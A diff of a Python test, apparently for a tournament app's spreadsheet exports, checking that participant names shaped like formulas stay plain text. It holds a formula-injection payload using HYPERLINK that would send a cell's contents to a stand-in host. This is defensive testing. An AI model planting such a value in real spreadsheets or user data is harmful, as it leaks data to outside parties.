@@ -163,7 +163,7 @@ def test_a_name_that_looks_like_a_formula_stays_text(api, played):
 
     hostile = '=HYPERLINK("http://x?leak="&A1,"click")'
     for index, participant in enumerate(Participant.objects.filter(tournament=played)):
-        participant.name = f"{hostile[:-2]}{index}\")" if index else hostile
+        participant.name = f'{hostile[:-2]}{index}")' if index else hostile
         participant.save(update_fields=["name"])
     for path in ("standings.xlsx", "results.xlsx"):
         response = api.get(f"/api/tournaments/{played.pk}/{path}")
